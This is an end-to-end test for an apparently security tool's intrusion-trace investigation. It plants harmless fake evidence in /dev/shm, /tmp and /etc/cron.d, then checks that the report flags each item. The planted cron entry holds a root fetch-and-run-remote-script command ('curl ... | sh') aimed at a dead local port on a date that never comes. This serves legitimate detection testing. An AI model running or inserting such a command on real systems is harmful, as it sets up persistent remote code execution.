/**
 * Intrusion-trace investigation end to end: `vigil server --local-agent`, the investigation asked
 * for through pop-core, run by the agent as a task, the report stored on the server and fetched
 * back. Evidence is planted on this machine and removed afterwards: an ELF in /dev/shm, a script in
 * /tmp, and a cron file in /etc/cron.d whose schedule (Feb 31) never fires. /etc/passwd is never
 * touched; accounts and services are covered on a fixture root in traces-host.test.ts.
 */
import { randomBytes } from 'node:crypto';
import { chmodSync, copyFileSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { popClient } from '../helpers/sdk.js';
import { startLocalAgentServer, until, type LocalAgentServer } from '../helpers/local-agent-server.js';

const tag = randomBytes(4).toString('hex');
const shmExe = `/dev/shm/vigil-trace-${tag}-kworker`;
const tmpDir = `/tmp/vigil-trace-${tag}`;
const tmpScript = join(tmpDir, 'update.sh');
const cronFile = `/etc/cron.d/vigil-trace-test-${tag}`;
const cronLine = `0 0 31 2 * root curl -fsS http://127.0.0.1:9/x.sh | sh`;

let srv: LocalAgentServer;

beforeAll(async () => {
  copyFileSync('/bin/true', shmExe);
  chmodSync(shmExe, 0o755);
  mkdirSync(tmpDir);
  writeFileSync(tmpScript, '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  writeFileSync(cronFile, `# planted by Vigil's traces-agent test; removed when it ends\n${cronLine}\n`, { mode: 0o644 });
  srv = await startLocalAgentServer();
}, 90_000);

afterAll(async () => {
  rmSync(cronFile, { force: true });
  rmSync(shmExe, { force: true });
  rmSync(tmpDir, { recursive: true, force: true });
  await srv?.stop();
});

interface Item {
  Code: string;
  Level: string;
  Title: string;
  Explanation: string;
  Evidence: Record<string, unknown>;
}
interface ReportResponse {
  Task: { TaskId: string; Uuid: string; Status: string; Level: string; SeriousCount: number; Error: string };
  Report?: { Hostname: string; Level: string; Sections: Array<{ Id: string; Level: string; Truncated: boolean; Items: Item[] }> };
}

describe('intrusion-trace investigation through the server and the local agent', () => {
  it('runs on demand, stores the report and shows every planted item with an explanation', async () => {
    const key = srv.createKey();
    const sas = popClient(srv.url, key.AccessKeyId, key.AccessKeySecret);
    const uuid = await until('agent online', async () => {
      const r = (await sas.request('DescribeCloudCenterInstances', {})) as { Instances: Array<{ Uuid: string; ClientStatus: string }> };
      return r.Instances.find((i) => i.ClientStatus === 'online')?.Uuid;
    });

    await expect(sas.request('CreateIntrusionTraceTask', { Uuid: 'no-such-host' }, { method: 'POST' })).rejects.toThrow(/InvalidUuid|Unknown agent/);
    await expect(sas.request('CreateIntrusionTraceTask', { Uuid: uuid, RecentHours: 999 }, { method: 'POST' })).rejects.toThrow(/RecentHours/);
    const { TaskId } = (await sas.request('CreateIntrusionTraceTask', { Uuid: uuid }, { method: 'POST' })) as { TaskId: string };

    const r = await until(
      'report',
      async () => {
        const x = (await sas.request('DescribeIntrusionTraceReport', { TaskId }, { method: 'POST' })) as unknown as ReportResponse;
        return x.Task.Status === 'Processing' ? undefined : x;
      },
      120_000,
    );
    expect(r.Task).toMatchObject({ TaskId, Uuid: uuid, Status: 'Success', Error: '' });
    const report = r.Report;
    if (!report) throw new Error('no report');
    expect(report.Sections.map((s) => s.Id)).toEqual(['logins', 'remote-logins', 'cron', 'recent-files', 'accounts', 'temp-executables', 'services', 'authorized-keys', 'persistence']);
    const items = (id: string) => report.Sections.find((s) => s.Id === id)?.Items ?? [];

    const exe = items('temp-executables').find((i) => i.Title === shmExe);
    expect(exe).toMatchObject({ Code: 'temp.elf', Level: 'serious', Evidence: { elf: true } });
    expect(items('temp-executables').find((i) => i.Title === tmpScript)).toMatchObject({ Code: 'temp.script', Level: 'suspicious' });
    const cron = items('cron').find((i) => i.Title === `${cronFile}:2`);
    expect(cron).toMatchObject({ Code: 'cron.dangerous', Level: 'serious', Evidence: { entry: cronLine, packaged: false } });
    // The section lists at most 200 files, serious first; a busy /etc may push the planted one out.
    const recent = report.Sections.find((x) => x.Id === 'recent-files');
    const cronAsFile = items('recent-files').find((i) => i.Title === cronFile);
    if (cronAsFile || !recent?.Truncated) expect(cronAsFile).toMatchObject({ Code: 'file.unpackaged-config', Level: 'suspicious' });
    // Distribution cron files are package-owned and not flagged as new.
    const packaged = items('cron').find((i) => i.Title.startsWith('/etc/cron.d/e2scrub_all:'));
    if (packaged) expect(packaged.Level).toBe('info');
    expect(items('accounts').some((i) => i.Code === 'account.uid0')).toBe(false); // this machine has only root at uid 0
    expect(report.Level).toBe('serious');
    expect(r.Task.SeriousCount).toBeGreaterThanOrEqual(2);
    for (const s of report.Sections) for (const i of s.Items) expect(i.Explanation.length, `${s.Id} ${i.Title}`).toBeGreaterThan(10);
    expect(JSON.stringify(r)).not.toMatch(/\$(?:y|6|5|1|2[aby])\$[^"]{8,}/); // no password hashes

    const list = (await sas.request('DescribeIntrusionTraceTasks', { Uuid: uuid }, { method: 'POST' })) as { Tasks: Array<{ TaskId: string; Status: string; Level: string }>; TotalCount: number };
    expect(list.TotalCount).toBe(1);
    expect(list.Tasks[0]).toMatchObject({ TaskId, Status: 'Success', Level: 'serious' });
    await expect(sas.request('DescribeIntrusionTraceReport', { TaskId: 'nope' }, { method: 'POST' })).rejects.toThrow(/TaskNotFound|No intrusion-trace task/);
  }, 180_000);
});
